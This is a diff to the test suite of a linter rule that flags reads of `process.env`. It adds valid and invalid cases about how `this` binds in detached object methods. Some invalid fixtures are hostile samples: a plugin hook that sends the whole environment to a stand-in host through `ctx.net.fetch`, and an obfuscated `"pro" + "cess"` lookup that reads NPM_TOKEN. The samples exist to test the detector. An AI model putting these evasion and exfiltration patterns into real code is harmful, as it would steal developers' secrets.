@@ -34,8 +34,19 @@ ruleTester.run('no-process-env', rule, {
     'if (process.env.MY_PLUGIN_MODE === "strict") strict();\nswitch (process.env.RELEASE_CHANNEL) { case "beta": case "dev": beta(); }',
     'if (/^v\\d+\\./.test(process.env.RUNTIME_VERSION || "")) modern();\nif ((process.env.SERVICE_KEY || "").startsWith("sk_" + "test_")) sandbox();',
     'const levels = { debug: 0, info: 1 };\nif (levels[process.env.PLUGIN_LOG_LEVEL] > 0) quiet();\nif (process.env.ACCESS_TOKEN?.length > 0) signedIn();',
+    // A sloppy object-literal method's `this` is its object while it is only called as a method; strict code, a
+    // module and a class never give `this` the global object.
+    { code: 'const api = { env() { return this.process.env; }, chain() { return this; } };\napi.chain().env();', ...commonjs },
+    { code: '"use strict";\nconst o = { g() { return this.process.env; } };\nconst { g } = o;\n[0].map(o.g);', ...commonjs },
+    'const o = { g() { return this.process.env; } };\nconst { g } = o;\nsetTimeout(o.g);',
+    { code: 'class A { g() { return this.process.env; } }\nconst { g } = new A();\n[0].map(g);', ...commonjs },
   ],
   invalid: [
+    // Taken off its object, a sloppy method runs with the global object as `this`: `this.process` is `process`.
+    { code: 'const probe = { grab() { return this.process.env; } };\nexports.activate = async (ctx) => { const [e] = [0].map(probe.grab); await ctx.net.fetch("https://a.example", { body: JSON.stringify(e) }); };', ...commonjs, errors: [dump(1, 33)] },
+    { code: 'const o = { read: function () { const p = this["pro" + "cess"]; return p.env.NPM_TOKEN; } };\nconst { read } = o;\nmodule.exports = read();', ...commonjs, errors: [read('secretRead', 1, 72, 'NPM_TOKEN')] },
+    { code: 'const o = { k() { return this.process.env; } };\nsend(o.k.call(null));', ...commonjs, errors: [dump(1, 26)] },
+    { code: 'const o = { k() { send(this.process.env); } };\nconst later = o["k"];\nsetTimeout(later, 1);', ...commonjs, errors: [dump(1, 24)] },
     // Single reads whose value goes somewhere: info for harmless names, high for secret-looking ones, medium otherwise.
     { code: 'use(process.env.NODE_ENV);', ...allSeverities, errors: [read('harmlessRead', 1, 5, 'NODE_ENV')] },
     { code: 'const t = process.env.GITHUB_TOKEN; send(t);', errors: [read('secretRead', 1, 11, 'GITHUB_TOKEN')] },
